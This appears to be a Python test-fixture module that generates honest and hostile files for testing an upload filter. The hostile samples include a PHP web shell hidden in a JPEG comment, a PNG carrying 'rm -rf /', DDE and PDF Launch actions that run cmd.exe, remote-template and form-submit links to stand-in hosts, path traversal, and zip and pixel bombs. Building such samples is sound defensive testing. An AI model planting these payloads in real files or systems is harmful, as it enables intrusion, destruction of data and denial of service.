"""Files made on the spot: honest ones of each accepted kind, and those that are not what they say."""

import io
import struct
import zipfile
import zlib

import openpyxl
from PIL import Image
from weasyprint import HTML

TYPES = (
    '<?xml version="1.0" encoding="UTF-8"?><Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">'
    '<Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/>'
    '<Default Extension="xml" ContentType="application/xml"/>{more}'
    '<Override PartName="/word/document.xml" ContentType="{main}"/></Types>'
)
DOCUMENT_TYPE = "application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml"
MACRO_TYPE = "application/vnd.ms-word.document.macroEnabled.main+xml"
WORD = "http://schemas.openxmlformats.org/wordprocessingml/2006/main"
RELATION = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
RELS = (
    '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">{}</Relationships>'
)


def zipped(parts: dict[str, str | bytes], compression: int = zipfile.ZIP_DEFLATED) -> bytes:
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", compression) as archive:
        for name, content in parts.items():
            archive.writestr(name, content)
    return buffer.getvalue()


def docx(
    more: dict[str, str | bytes] | None = None,
    main: str = DOCUMENT_TYPE,
    body: str = "走访记录",
    types: str = "",
) -> bytes:
    parts: dict[str, str | bytes] = {
        "[Content_Types].xml": TYPES.format(main=main, more=types),
        "_rels/.rels": RELS.format(
            f'<Relationship Id="r1" Type="{RELATION}/officeDocument" Target="word/document.xml"/>'
        ),
        "word/document.xml": f'<w:document xmlns:w="{WORD}"><w:body><w:p><w:r><w:t>{body}</w:t></w:r></w:p></w:body>'
        "</w:document>",
    }
    return zipped(parts | (more or {}))


def docx_with_relation(kind: str, target: str, mode: str = "External") -> bytes:
    relation = f'<Relationship Id="r9" Type="{RELATION}/{kind}" Target="{target}" TargetMode="{mode}"/>'
    return docx({"word/_rels/document.xml.rels": RELS.format(relation)})


def xlsx() -> bytes:
    workbook = openpyxl.Workbook()
    workbook.active.append(["姓名", "金额"])
    workbook.active.append(["张三", 500])
    buffer = io.BytesIO()
    workbook.save(buffer)
    return buffer.getvalue()


def picture(kind: str = "JPEG", size: tuple[int, int] = (40, 30), **options) -> bytes:
    image = Image.new("RGB", size, (200, 30, 30))
    image.putpixel((0, 0), (0, 0, 255))
    buffer = io.BytesIO()
    image.save(buffer, kind, **options)
    return buffer.getvalue()


def photo_with_place(orientation: int = 6) -> bytes:
    """A phone's photo, lying on its side, that tells where it was taken."""
    exif = Image.Exif()
    exif[0x0112] = orientation
    exif[0x010F] = "PhoneMaker"
    exif.get_ifd(0x8825)[1] = "N"
    exif.get_ifd(0x8825)[2] = (31.0, 12.0, 30.0)
    return picture(exif=exif.tobytes(), comment=b"SECRET-PLACE")


def pdf() -> bytes:
    return HTML(string="<html lang=zh><h1>慰问金发放表</h1><p>共 3 人</p></html>").write_pdf()


def pdf_of(objects: list[bytes], tail: bytes = b"") -> bytes:
    """A small PDF with a correct table of objects; object 1 is the catalogue."""
    out = bytearray(b"%PDF-1.7\n")
    places = []
    for number, body in enumerate(objects, start=1):
        places.append(len(out))
        out += b"%d 0 obj\n" % number + body + b"\nendobj\n"
    start = len(out)
    out += b"xref\n0 %d\n0000000000 65535 f \n" % (len(objects) + 1)
    for place in places:
        out += b"%010d 00000 n \n" % place
    out += b"trailer\n<< /Root 1 0 R /Size %d >>\nstartxref\n%d\n%%%%EOF\n" % (len(objects) + 1, start)
    return bytes(out) + tail


def plain_pdf(catalog: bytes = b"", extra: list[bytes] | None = None, tail: bytes = b"") -> bytes:
    pages = b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>"
    page = b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 200 200] >>"
    return pdf_of([b"<< /Type /Catalog /Pages 2 0 R " + catalog + b" >>", pages, page, *(extra or [])], tail)


def object_stream(inside: bytes, filters: bytes = b"/FlateDecode", name: bytes = b"/ObjStm") -> bytes:
    data = zlib.compress(inside) if filters == b"/FlateDecode" else inside.hex().encode() + b">"
    head = (
        b"<< /Type " + name + b" /N 1 /First 4 /Filter " + filters + b" /Length %d >>\nstream\n" % len(data)
    )
    return head + data + b"\nendstream"


def png_flood(width: int = 60_000, height: int = 60_000) -> bytes:
    """A few bytes that claim 3.6 thousand million pixels."""

    def chunk(kind: bytes, data: bytes) -> bytes:
        return struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data))

    head = struct.pack(">IIBBBBB", width, height, 8, 2, 0, 0, 0)
    return (
        b"\x89PNG\r\n\x1a\n"
        + chunk(b"IHDR", head)
        + chunk(b"IDAT", zlib.compress(b"\0" * 1000))
        + chunk(b"IEND", b"")
    )


def jpeg_with_comment(comment: bytes) -> bytes:
    content = picture()
    return content[:2] + b"\xff\xfe" + struct.pack(">H", len(comment) + 2) + comment + content[2:]


def lying_zip() -> bytes:
    """A docx whose index says a part is small; it is not."""
    content = bytearray(docx({"word/big.xml": b"<a>" + b" " * 300_000_000 + b"</a>"}))
    at = content.rfind(b"PK\x01\x02", 0, content.rfind(b"word/big.xml"))
    content[at + 24 : at + 28] = struct.pack("<I", 100)
    return bytes(content)


def two_indexes() -> bytes:
    """A docx in which the local header of a part names another part than the index does."""
    content = bytearray(docx({"word/extra.xml": "<a/>"}))
    at = content.find(b"word/extra.xml")
    content[at : at + 14] = b"word/vbaPr.bin"
    return bytes(content)


ZIP = zipped({"a.txt": "hallo"})
HTML_PAGE = b"<html><body><script>alert(1)</script></body></html>"
BOMB = b"<a>" + b"0" * 60_000_000 + b"</a>"


#: name → (file name, bytes): each is two things at once, or hides one in another.
POLYGLOTS = {
    "jpeg+zip behind": ("a.jpg", picture() + ZIP),
    "jpeg+pdf behind": ("a.jpg", picture() + plain_pdf()),
    "jpeg+script in comment": ("a.jpg", jpeg_with_comment(b"<script>alert(1)</script>")),
    "jpeg+php in comment": ("a.jpg", jpeg_with_comment(b"<?php system($_GET['c']); ?>")),
    "jpeg+html behind": ("a.jpg", picture() + HTML_PAGE),
    "jpeg+pdf in comment": ("a.jpg", jpeg_with_comment(b"%PDF-1.7 1 0 obj")),
    "png+zip behind": ("a.png", picture("PNG") + ZIP),
    "png+pdf behind": ("a.png", picture("PNG") + plain_pdf()),
    "png+program behind": ("a.png", picture("PNG") + b"MZ\x90\x00" + b"\0" * 200),
    "png+shell script behind": ("a.png", picture("PNG") + b"\n#!/bin/sh\nrm -rf /\n"),
    "gif as png": ("a.png", b"GIF89a/*" + picture("PNG")),
    "pdf+zip behind": ("a.pdf", plain_pdf() + ZIP),
    "pdf+html behind": ("a.pdf", plain_pdf(tail=HTML_PAGE)),
    "pdf+program behind": ("a.pdf", plain_pdf(tail=b"MZ" + b"\x90" * 100)),
    "pdf begun late": ("a.pdf", b"MZ" + b"\0" * 60 + plain_pdf()),
    "pdf with html page inside": ("a.pdf", plain_pdf(extra=[b"(" + HTML_PAGE + b")"])),
    "pdf that is a picture": ("a.pdf", picture() + plain_pdf()),
    "docx+pdf before": ("a.docx", plain_pdf() + docx()),
    "docx+picture before": ("a.docx", picture() + docx()),
    "docx+bytes behind": ("a.docx", docx() + b"MZ\x90\0"),
    "docx with comment": ("a.docx", docx()[:-2] + struct.pack("<H", len(HTML_PAGE)) + HTML_PAGE),
    "docx that is a jar": (
        "a.docx",
        docx({"META-INF/MANIFEST.MF": "Main-Class: X", "X.class": b"\xca\xfe\xba\xbe"}),
    ),
    "docx with pdf stored inside": ("a.docx", zipped({"word/document.xml": plain_pdf()}, zipfile.ZIP_STORED)),
    "docx with program as picture": ("a.docx", docx({"word/media/image1.png": b"MZ\x90\0" + b"\0" * 100})),
    "docx with zip as picture": ("a.docx", docx({"word/media/image1.png": ZIP})),
    "xlsx that is a docx": ("a.xlsx", docx()),
    "docx with two indexes": ("a.docx", two_indexes()),
    "html as pdf": ("a.pdf", HTML_PAGE),
    "pdf as jpg": ("a.jpg", plain_pdf()),
    "jpg as png": ("a.png", picture()),
}

#: What acts, carries, floods or is broken.
HOSTILE = {
    "program": ("setup.exe", b"MZ" + b"\0" * 100),
    "page": ("a.html", HTML_PAGE),
    "svg": ("a.svg", b"<svg xmlns='http://www.w3.org/2000/svg'/>"),
    "macro workbook by name": ("a.xlsm", xlsx()),
    "double extension": ("a.pdf.exe", plain_pdf()),
    "no extension": ("a", plain_pdf()),
    "empty": ("a.pdf", b""),
    "cut picture": ("a.jpg", picture(size=(400, 300))[:600]),
    "cut png": ("a.png", picture("PNG", size=(400, 300))[:-30]),
    "pixel flood": ("a.png", png_flood()),
    "cut pdf": ("a.pdf", pdf()[:-200]),
    "pdf script": ("a.pdf", plain_pdf(b"/OpenAction << /S /JavaScript /JS (app.alert(1)) >>")),
    "pdf script, escaped": ("a.pdf", plain_pdf(b"/OpenAction << /S /J#61v#61Script /JS (app.alert(1)) >>")),
    "pdf script in object stream": (
        "a.pdf",
        plain_pdf(extra=[object_stream(b"5 0 << /S /JavaScript /JS (1) >>")]),
    ),
    "pdf script in renamed object stream": (
        "a.pdf",
        plain_pdf(extra=[object_stream(b"5 0 << /S /J#61vaScript /JS (1) >>", name=b"/Obj#53tm")]),
    ),
    "pdf object stream, odd filter": (
        "a.pdf",
        plain_pdf(extra=[object_stream(b"5 0 << >>", b"/ASCIIHexDecode")]),
    ),
    "pdf launch": ("a.pdf", plain_pdf(b"/OpenAction << /S /Launch /F (cmd.exe) >>")),
    "pdf with file": ("a.pdf", plain_pdf(b"/Names << /EmbeddedFiles << /Names [] >> >>")),
    "pdf form sent away": ("a.pdf", plain_pdf(b"/AA << /O << /S /SubmitForm /F (http://x) >> >>")),
    "pdf encrypted": ("a.pdf", plain_pdf().replace(b"trailer\n<<", b"trailer\n<< /Encrypt 9 0 R")),
    "docx with macros": ("a.docx", docx({"word/vbaProject.bin": b"\xd0\xcf\x11\xe0"})),
    "docx of macro type": ("a.docx", docx(main=MACRO_TYPE)),
    "docx with object": ("a.docx", docx({"word/embeddings/oleObject1.bin": b"\xd0\xcf\x11\xe0"})),
    "docx with remote template": ("a.docx", docx_with_relation("attachedTemplate", "http://x/evil.dotm")),
    "docx with remote picture": ("a.docx", docx_with_relation("image", "http://x/track.png")),
    "docx with link to file": ("a.docx", docx_with_relation("hyperlink", "file:///etc/passwd")),
    "docx with doctype": ("a.docx", docx({"word/settings.xml": '<!DOCTYPE a [<!ENTITY b "c">]><a>&b;</a>'})),
    "docx with doctype in UTF-16": (
        "a.docx",
        docx(
            {"word/settings.xml": '<?xml version="1.0" encoding="UTF-16"?><!DOCTYPE a><a/>'.encode("utf-16")}
        ),
    ),
    "docx with dde": (
        "a.docx",
        docx(body='</w:t><w:instrText>DDEAUTO c:\\\\cmd.exe "/k calc"</w:instrText><w:t>'),
    ),
    "docx bomb": ("a.docx", docx({"word/big.xml": BOMB})),
    "docx with lying sizes": ("a.docx", lying_zip),  # made when wanted: 300 MB take their time
    "docx of 3,000 parts": ("a.docx", docx({f"word/p{n}.xml": "<a/>" for n in range(3_000)})),
    "docx with path": ("a.docx", docx({"../../etc/cron.d/x.xml": "<a/>"})),
    "docx with the same part twice": ("a.docx", docx({"Word/Document.xml": "<a/>"})),
    "old doc renamed": ("a.docx", b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\0" * 600),
    "workbook with external link": ("a.xlsx", zipped({"xl/externalLinks/externalLink1.xml": "<a/>"})),
}
